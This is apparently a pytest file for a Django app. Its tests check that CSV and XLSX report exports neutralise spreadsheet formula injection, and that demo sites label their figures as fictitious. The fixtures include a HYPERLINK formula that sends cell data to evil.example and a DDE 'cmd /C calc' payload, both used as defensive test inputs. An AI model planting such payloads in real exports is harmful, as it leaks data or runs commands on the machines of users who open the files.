import csv
import io

import pytest
from openpyxl import load_workbook

from essaim.evidence.exports import to_csv, to_xlsx
from essaim.evidence.models import ProgrammeIndicator
from essaim.evidence.selectors import parse_scope, report
from tests.factories.calls import CallFactory
from tests.factories.directory import ProgrammeFactory
from tests.factories.evidence import IndicatorFactory

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?d="&A1,"Cliquer")'


def _rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))


def _formulas(book) -> list[str]:
    return [
        f"{s.title}!{c.coordinate}" for s in book for row in s.iter_rows() for c in row if c.data_type == "f"
    ]


def test_csv_neutralises_a_call_title_that_is_a_formula():
    call = CallFactory(title=EVIL)
    rows = _rows(to_csv(report(parse_scope(f"call:{call.pk}"), inside=True)))
    assert rows[0] == ["Rapport", "'" + EVIL, "toutes les entrées"]
    assert not any(cell.startswith("=") for row in rows for cell in row)


def test_xlsx_writes_a_call_title_as_text_not_formula():
    call = CallFactory(title=EVIL)
    book = load_workbook(io.BytesIO(to_xlsx(report(parse_scope(f"call:{call.pk}"), inside=True))))
    cell = book["Source"]["B1"]
    assert (cell.value, cell.data_type, cell.quotePrefix) == (EVIL, "s", True)
    assert _formulas(book) == []


def test_table_cells_are_neutralised_in_both_formats():
    programme = ProgrammeFactory(name="@SUM(1+1)*cmd|' /C calc'!A0", slug="p")
    ProgrammeIndicator.objects.create(
        programme=programme, indicator=IndicatorFactory(name='-1+HYPERLINK("x")', unit="+ETP")
    )
    data = report(parse_scope("programme:p"), inside=True)
    rows = _rows(to_csv(data))
    assert rows[0][1] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert ['\'-1+HYPERLINK("x")', "'+ETP", "0", "", ""] in rows
    book = load_workbook(io.BytesIO(to_xlsx(data)))
    sheet = book["Indicateurs d'impact suivis"]
    assert [c.value for c in sheet[3]] == ['-1+HYPERLINK("x")', "+ETP", 0, None, None]
    assert _formulas(book) == []


@pytest.mark.parametrize("demo", [True, False])
def test_files_of_a_demo_site_say_their_figures_are_fictitious(settings, demo):
    settings.DEMO = demo
    programme = ProgrammeFactory()
    scope = parse_scope(f"programme:{programme.slug}")
    rows = _rows(to_csv(report(scope, inside=True)))
    notices = [row for row in rows[:4] if row and row[0] == "Démonstration"]
    book = load_workbook(io.BytesIO(to_xlsx(report(scope, inside=True))))
    sheet_notices = [r for r in book["Source"].iter_rows(values_only=True) if r[0] == "Démonstration"]
    if demo:
        assert notices and "fictifs" in notices[0][1]
        assert book.sheetnames[0] == "Source" and "fictifs" in sheet_notices[0][1]
    else:
        assert notices == [] and sheet_notices == [] and book.sheetnames[-1] == "Source"
